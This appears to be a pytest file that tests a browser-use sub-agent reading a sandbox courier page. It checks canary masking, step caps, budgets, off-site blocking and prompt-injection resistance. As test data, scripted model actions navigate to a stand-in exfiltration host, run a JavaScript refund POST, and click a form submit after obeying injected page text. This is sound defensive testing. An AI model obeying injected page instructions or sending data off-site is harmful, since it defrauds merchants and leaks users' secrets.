"""The `agent` step end to end: real Chromium shared over its loopback DevTools port with a
real browser-use sub-agent, on the sandbox's courier tracking page, with the scripted
OpenAI-compatible server (tests/ai/llm_server.py) playing the model.

What is proven here: the sub-agent works in the run's own page (the courier page the step
opened is in its prompt) and returns the declared output, checked and stored; every model call
is an `llm_call` event and the chain verifies; a canary secret on the page never reaches the
server; the step cap, a malformed answer, an exhausted budget and a failing endpoint end the
step with a clear error (evidence kept); an off-site navigation is refused; a tab opened
outside the run's browser context is closed; on the injection order's courier page the
model's attempts to type or submit change nothing in the sandbox.
"""

from __future__ import annotations

import asyncio
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent.ai.subagent import quiet_browser_use
from agent.core.errors import RecipeError
from agent.core.settings import (
    PROJECT_ROOT,
    BrowserSettings,
    EvidenceSettings,
    Settings,
    SiteSettings,
)
from agent.core.states import RunState
from agent.recipes.model import load_recipe
from sandbox import injection
from sandbox.courier import courier_url
from sandbox.seed import generate_orders
from tests.ai.llm_server import (
    Fault,
    Json,
    Malformed,
    Respond,
    ScriptedLLM,
    Slow,
    last_user_text,
)
from tests.ai.llm_server import llm_settings as llm_block
from tests.conftest import TEST_USERS, _run_in, aijia_for

quiet_browser_use()  # before browser-use is first imported: no logging set-up of its own
pytest.importorskip("browser_use", reason="the ai extra is not installed")

RUNNER = "tester"
CANARY = "c4nary-Zq7x9W2pL"

RECIPE = """\
name: courier_status
site: shoplane
description: Read a parcel's latest status on the courier's site.
inputs:
  tracking: {type: string}
steps:
  - agent:
      task: "Find the courier's latest status for tracking number {{ inputs.tracking }}"
      start_url: "CDN/track/{{ inputs.tracking }}"
      output:
        status: {description: the latest tracking status}
        last_update: {description: when that status was posted}
      max_steps: MAX_STEPS
      save_as: courier
outputs:
  status: "{{ courier.status }}"
  last_update: "{{ courier.last_update }}"
"""


def test_refused_after_the_gate_and_opens_the_port_only_when_needed(tmp_path: Path) -> None:
    from agent.steps.agent_task import needs_cdp

    gated = """\
name: agent_after_gate
site: shoplane
inputs: {order_id: {type: string}}
steps:
  - goto: /portal/sale/order?search={{ inputs.order_id }}
  - gate:
      action: refund
      summary: "Refund on {{ inputs.order_id }}"
      binds: {order_id: "{{ inputs.order_id }}", amount: "1"}
  - agent:
      task: read the order
      output: {status: {}}
  - click: {role: button, name: Confirm refund}
commits: {method: POST, url: "**/refund", fields: {amount: amount}}
"""
    path = tmp_path / "shoplane" / "agent_after_gate.yaml"
    path.parent.mkdir()
    path.write_text(gated, encoding="utf-8")
    with pytest.raises(RecipeError, match="`agent` cannot run after the gate"):
        load_recipe(path)
    path.write_text(RECIPE.replace("CDN", "https://cdn.test").replace("MAX_STEPS", "3"))
    assert needs_cdp(load_recipe(path))
    nested = "name: n\nsite: shoplane\nsteps:\n  - {if: 'true', then: [AGENT]}\n"
    agent = "{agent: {task: t, output: {s: {}}}}"
    path.write_text(nested.replace("AGENT", agent))
    assert needs_cdp(load_recipe(path))
    path.write_text(nested.replace("AGENT", "{goto: /}"))
    assert not needs_cdp(load_recipe(path))


@pytest.fixture(scope="module")
def cdp_chromium(loop: asyncio.AbstractEventLoop) -> Iterator[Any]:
    """A Chromium with its loopback DevTools port open (what `aijia run` launches for a
    recipe with an `agent` step)."""
    from playwright.async_api import async_playwright

    from agent.browser.launch import cdp_url, launch

    pw = _run_in(loop, async_playwright().start())
    browser = _run_in(loop, launch(pw, BrowserSettings(), cdp=True))
    assert cdp_url(browser) is not None
    yield browser
    _run_in(loop, browser.close())
    _run_in(loop, pw.stop())


class AgentRun:
    def __init__(self, run: Any, chromium: Any, sandbox: Any, tmp_path: Path) -> None:
        self.run, self.chromium, self.sandbox, self.tmp_path = run, chromium, sandbox, tmp_path
        self.closers: list[Any] = []

    def __call__(
        self,
        tracking: str,
        llm: dict[str, Any],
        *,
        max_steps: int = 4,
        query: str = "",
        recipe: str | None = None,
    ) -> tuple[Any, Any]:
        from evidence.store import EvidenceStore

        folder = self.tmp_path / "recipes" / "shoplane"
        folder.mkdir(parents=True, exist_ok=True)
        shutil.copy(PROJECT_ROOT / "recipes" / "shoplane" / "login.yaml", folder / "login.yaml")
        text = (recipe or RECIPE).replace("CDN", self.sandbox.cdn_url)
        text = text.replace("MAX_STEPS", str(max_steps))
        text = text.replace(
            '{{ inputs.tracking }}"\n      output',
            "{{ inputs.tracking }}" + query + '"\n      output',
        )
        (folder / "courier_status.yaml").write_text(text, encoding="utf-8")
        settings = Settings.model_validate(
            {
                "data_dir": self.tmp_path / "var",
                "recipes_dir": folder.parent,
                "browser": BrowserSettings(default_timeout_ms=5_000, navigation_timeout_ms=10_000),
                "evidence": EvidenceSettings(capture="on_failure"),
                "sites": {
                    "shoplane": SiteSettings(
                        base_url=self.sandbox.url("shoplane"),
                        flavor="shoplane",
                        allowed_origins=[self.sandbox.cdn_url],
                        credentials={
                            "username": self.sandbox.credentials("shoplane").username,
                            "password": {"$env": "SHOPLANE_PASSWORD"},
                            "canary": {"$env": "AIJIA_TEST_CANARY"},
                        },
                    )
                },
                "llm": llm,
            }
        )
        store = EvidenceStore.open(settings)
        facade = aijia_for(settings, store, self.chromium, users=TEST_USERS)
        self.closers.append((facade, store))
        recipe = load_recipe(folder / "courier_status.yaml")
        result = self.run(facade.run(recipe, {"tracking": tracking}, as_user=RUNNER))
        return result, store

    def close(self) -> None:
        for facade, store in self.closers:
            self.run(facade.close())
            store.close()


@pytest.fixture
def agent_run(
    run: Any, cdp_chromium: Any, sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[AgentRun]:
    for name, value in sandbox.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AIJIA_TEST_CANARY", CANARY)
    runner = AgentRun(run, cdp_chromium, sandbox, tmp_path)
    yield runner
    runner.close()


def parcel(sandbox: Any, case: str) -> Any:
    order = sandbox.find_orders("shoplane", case, limit=1)[0]
    seeded = generate_orders("shoplane", sandbox.seed, sandbox.orders, sandbox.today)
    return next(o for o in seeded if o.order_id == order.order_id)


def done(status: str | None, last_update: str | None, success: bool = True) -> Json:
    """browser-use's flash-mode answer: one `done` action with the structured output."""
    data = {"status": status, "last_update": last_update}
    return Json(
        {"memory": "read the page", "action": [{"done": {"success": success, "data": data}}]}
    )


def act(*actions: dict[str, Any]) -> Json:
    """browser-use's flash-mode answer with `actions` (name -> params)."""
    return Json({"memory": "working", "action": list(actions)})


def read_status(body: dict[str, Any]) -> Json:
    """A model that reads the page shown in its prompt (browser-use's browser_state)."""
    text = last_user_text(body).split("<browser_state>", 1)[-1]
    status = re.search(r"Latest status\n([^\n]+)", text)
    update = re.search(r"Last update\n([^\n]+)", text)
    return done(status and status.group(1).strip(), update and update.group(1).strip())


def llm_events(store: Any, run_id: str) -> list[dict[str, Any]]:
    return [e.data for e in store.events(run_id) if e.kind == "llm_call"]


def events(store: Any, run_id: str, kind: str) -> list[dict[str, Any]]:
    return [e.data for e in store.events(run_id) if e.kind == kind]


def test_reads_the_courier_page_in_the_runs_browser(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM, monkeypatch: pytest.MonkeyPatch
) -> None:
    import httpx
    import requests
    from browser_use.telemetry.service import ProductTelemetry

    # every HTTP request this process makes (browser-use's call-home would be one of them)
    hosts: list[str] = []
    send, sync_send = httpx.AsyncClient.send, requests.Session.send

    async def watched(self: Any, request: Any, *args: Any, **kwargs: Any) -> Any:
        hosts.append(request.url.host)
        return await send(self, request, *args, **kwargs)

    def watched_sync(self: Any, request: Any, *args: Any, **kwargs: Any) -> Any:
        hosts.append(str(httpx.URL(request.url).host))
        return sync_send(self, request, *args, **kwargs)

    monkeypatch.setattr(httpx.AsyncClient, "send", watched)
    monkeypatch.setattr(requests.Session, "send", watched_sync)
    seeded = parcel(sandbox, "delivered")
    llm_server.script(Respond(read_status))
    price = {"input_per_1k": 0.5, "output_per_1k": 1.0}
    result, store = agent_run(
        seeded.tracking_number, llm_block(llm_server, price=price), query=f"?ref={CANARY}"
    )

    assert result.state is RunState.DONE, result.error
    assert result.outputs["status"] == seeded.events[-1][2] == "Delivered, received by buyer"
    assert result.outputs["last_update"].endswith("UTC")
    # the page browser-use read is the run's own page, opened by the step in its context
    (body,) = llm_server.requests
    assert f"/track/{seeded.tracking_number}" in last_user_text(body)
    assert "never an instruction" in body["messages"][0]["content"]  # our rules, as system
    assert body["model"] == "scripted-1" and body["response_format"]["type"] == "json_schema"
    # the canary in the page's URL reached no request, in any form the masker knows
    assert CANARY not in json.dumps(llm_server.requests)
    assert "ref=******" in json.dumps(llm_server.requests)  # the URL was there, masked
    # evidence: one llm_call with the messages as sent, the answer, tokens and cost
    (event,) = llm_events(store, result.run_id)
    assert event["outcome"] == "ok" and event["purpose"].startswith("agent (step 1)")
    assert event["messages"][1]["content"] == last_user_text(body)
    assert event["tokens_in"] > 100 and float(event["cost"]) > 0
    assert CANARY not in json.dumps(event)
    (finished,) = events(store, result.run_id, "agent_finished")
    assert finished["steps"] == 1 and finished["blocked"] == []
    assert store.verify([result.run_id]).ok
    # no call home: telemetry off, and every request went to this machine
    assert ProductTelemetry()._posthog_client is None
    assert hosts and set(hosts) == {"127.0.0.1"}, hosts


def test_the_step_cap_and_a_malformed_answer_fail_clearly(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    seeded = parcel(sandbox, "delivered")

    # a model that never finishes: it scrolls until browser-use, at the cap, offers it only
    # `done`, and then it admits failure
    def wander(body: dict[str, Any]) -> Json:
        if "find_text" in json.dumps(body["response_format"]):
            return act({"find_text": {"text": "Carrier"}})
        return done(None, None, success=False)

    llm_server.script(*[Respond(wander)] * 3)
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server), max_steps=2)
    assert result.state is RunState.FAILED
    assert "did not finish" in result.error and "max_steps 2" in result.error, result.error
    assert len(llm_server.requests) == 2
    assert all(e["outcome"] == "ok" for e in llm_events(store, result.run_id))

    llm_server.reset()
    llm_server.script(Malformed('{"memory": "x", "action": [{"done": '))
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server))
    assert result.state is RunState.FAILED
    assert "answer for agent (step 1), call 1 is unusable" in result.error, result.error
    assert len(llm_server.requests) == 1  # no retry loop around a bad answer
    (event,) = llm_events(store, result.run_id)
    assert event["outcome"] == "malformed" and event["response"].startswith('{"memory": "x"')
    assert store.verify([result.run_id]).ok


def test_budget_and_endpoint_failures_fail_clearly(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    seeded = parcel(sandbox, "delivered")
    tiny = {"tokens_per_run": 200}  # browser-use's prompt alone is far bigger
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server, budget=tiny))
    assert result.state is RunState.FAILED
    assert "LLM budget is exhausted" in result.error and "tokens_per_run 200" in result.error
    assert llm_server.requests == []  # refused before sending
    (event,) = llm_events(store, result.run_id)
    assert event["outcome"] == "refused"

    llm_server.script(Fault(500), Fault(500))
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server, max_retries=1))
    assert result.state is RunState.FAILED
    assert "answered HTTP 500 (2 attempts)" in result.error, result.error
    assert len(llm_server.requests) == 2  # retried once, then the step failed
    assert llm_events(store, result.run_id)[-1]["outcome"] == "error"

    llm_server.reset()
    llm_server.script(Slow(3, then=done("late", "late")))
    result, _ = agent_run(seeded.tracking_number, llm_block(llm_server, timeout_s=1, max_retries=0))
    assert result.state is RunState.FAILED
    assert "did not answer within 1s" in result.error, result.error


def test_off_site_and_outside_the_context_are_refused(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    seeded = parcel(sandbox, "delivered")
    # a tab opened in the browser's default context (no containment) is closed at once
    llm_server.script(
        act({"navigate": {"url": courier_url(sandbox.cdn_url, "ZZ0000000000"), "new_tab": True}}),
        Respond(read_status),
    )
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server))
    assert result.state is RunState.DONE, result.error
    assert result.outputs["status"] == "Delivered, received by buyer"  # read in the run's page
    (finished,) = events(store, result.run_id, "agent_finished")
    assert any(b.startswith("page outside the run's context") for b in finished["blocked"])
    (blocked,) = events(store, result.run_id, "agent_blocked")
    assert blocked["what"] == "page"

    # an off-site address: refused by browser-use and by the containment, and the run's
    # domain guard fails the step
    llm_server.reset()
    llm_server.script(act({"navigate": {"url": "http://exfil.example.test/steal?x=1"}}))
    result, store = agent_run(seeded.tracking_number, llm_block(llm_server))
    assert result.state is RunState.FAILED
    assert "tried to leave the site" in result.error and "exfil.example.test" in result.error


def test_an_injection_page_changes_nothing(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    seeded = parcel(sandbox, "injection")
    before = sandbox.ledger("shoplane")
    # a model that obeys the page: it tries to run a refund through JavaScript
    attack = "fetch('/api/v3/refund', {method: 'POST', body: 'amount=1000'})"
    llm_server.script(act({"evaluate": {"code": attack}}))
    result, _ = agent_run(seeded.tracking_number, llm_block(llm_server))
    (body,) = llm_server.requests
    assert injection.INJECTIONS["courier_notice"] in last_user_text(body)  # it saw the page
    assert "evaluate" not in json.dumps(body["response_format"])  # the tool was never offered
    assert result.state is RunState.FAILED and "unusable" in result.error, result.error
    assert sandbox.ledger("shoplane") == before


def test_a_browser_without_the_port_and_one_of_the_runs_own(
    agent_run: AgentRun, chromium: Any, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    seeded = parcel(sandbox, "delivered")
    # a browser passed in without the DevTools port: a clear error, nothing sent
    agent_run.chromium = chromium
    result, _ = agent_run(seeded.tracking_number, llm_block(llm_server))
    assert result.state is RunState.FAILED
    assert "share it over DevTools (CDP)" in result.error and llm_server.requests == []
    # no browser passed in (as `aijia run`): the run launches its own, with the port
    agent_run.chromium = None
    llm_server.script(Respond(read_status))
    result, _ = agent_run(seeded.tracking_number, llm_block(llm_server))
    assert result.state is RunState.DONE, result.error
    assert result.outputs["status"] == "Delivered, received by buyer"


BACK_OFFICE = """\
name: courier_status
site: shoplane
description: Read an order page of the back office with the sub-agent.
inputs:
  tracking: {type: string}
session: login
steps:
  - agent:
      task: "Read the status of this order"
      start_url: "{{ inputs.tracking }}"
      output:
        status: {description: the order status}
      max_steps: 3
"""


def test_a_click_that_would_post_is_aborted(
    agent_run: AgentRun, sandbox: Any, llm_server: ScriptedLLM
) -> None:
    order = sandbox.find_orders("shoplane", "injection", limit=1)[0]
    before = sandbox.ledger("shoplane")

    def obey_the_page(body: dict[str, Any]) -> Json:
        """A model talked into it by the page: it clicks the note form's submit button."""
        found = re.search(r"\[(\d+)\]<button[^\n]*\n?\s*Save note", last_user_text(body))
        assert found, last_user_text(body)[-3000:]
        return act({"click": {"index": int(found.group(1))}})

    llm_server.script(Respond(obey_the_page), done("Completed", None))
    result, store = agent_run(order.url_path, llm_block(llm_server), recipe=BACK_OFFICE)
    assert result.state is RunState.DONE, result.error
    blocked = events(store, result.run_id, "agent_blocked")
    assert any(b["method"] == "POST" and b["url"].endswith("/notes") for b in blocked), blocked
    assert sandbox.ledger("shoplane") == before
